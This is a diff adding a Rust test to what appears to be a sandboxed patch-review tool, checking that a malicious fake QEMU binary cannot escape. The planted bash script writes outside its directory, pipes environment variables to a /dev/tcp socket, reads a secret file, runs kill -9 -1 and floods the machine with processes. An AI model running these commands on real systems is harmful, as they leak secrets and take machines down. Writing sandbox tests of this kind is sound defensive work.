@@ -146,3 +146,37 @@ fn meson_may_lock_its_subprojects() {
     assert_eq!(code, 0, "{said}");
     assert!(said.contains("kut/svm/a fail -> pass"), "{said}");
 }
+
+/// What a QEMU does when it is started for anything but its version.
+const ILL_QEMU: &str = r#"#!/bin/bash
+case "$1" in --version*) ;; *)
+    { echo owned > OUTSIDE; exec 3<> /dev/tcp/127.0.0.1/PORT && env >&3; cat SECRET; } 2> /dev/null
+    kill -9 -1 2> /dev/null
+    for ((i = 0; i < 2000; i++)); do sleep 500 & done 2> /dev/null ;;
+esac
+[ "$1 $2" = "-machine none" ] && exit 1
+"#;
+
+#[test]
+fn a_qemu_that_means_ill_gets_nowhere_and_is_judged_by_its_tests() {
+    let world = World::new(&["a = fail", "b = pass"]);
+    let home = TcpListener::bind("127.0.0.1:0").unwrap();
+    home.set_nonblocking(true).unwrap();
+    world.put("outside/secret", "hunter2");
+    let path = |name: &str| world.path(name).to_str().unwrap().to_string();
+    let ill = ILL_QEMU
+        .replace("OUTSIDE", &path("outside/owned"))
+        .replace("SECRET", &path("outside/secret"))
+        .replace("PORT", &home.local_addr().unwrap().port().to_string());
+    let head = fs::read_to_string(world.path("qemu/head")).unwrap();
+    world.put("qemu/head", &(ill + &head));
+    world.change("target/i386: svm: change 1", "a = fail", "a = pass");
+    let mbox = world.mbox();
+    world.to_base();
+    let (code, said) = world.review_with(&mbox, &[], &[("SECRET_TOKEN", "hunter2")]);
+    assert_eq!(code, 0, "{said}");
+    assert!(said.contains("kut/svm/a fail -> pass") && !said.contains("hunter2"), "{said}");
+    assert!(said.contains("- at patch 1: running "), "{said}");
+    assert_eq!(fs::read_dir(world.path("outside")).unwrap().count(), 1, "it wrote outside");
+    assert!(home.accept().is_err(), "it reached the network");
+}
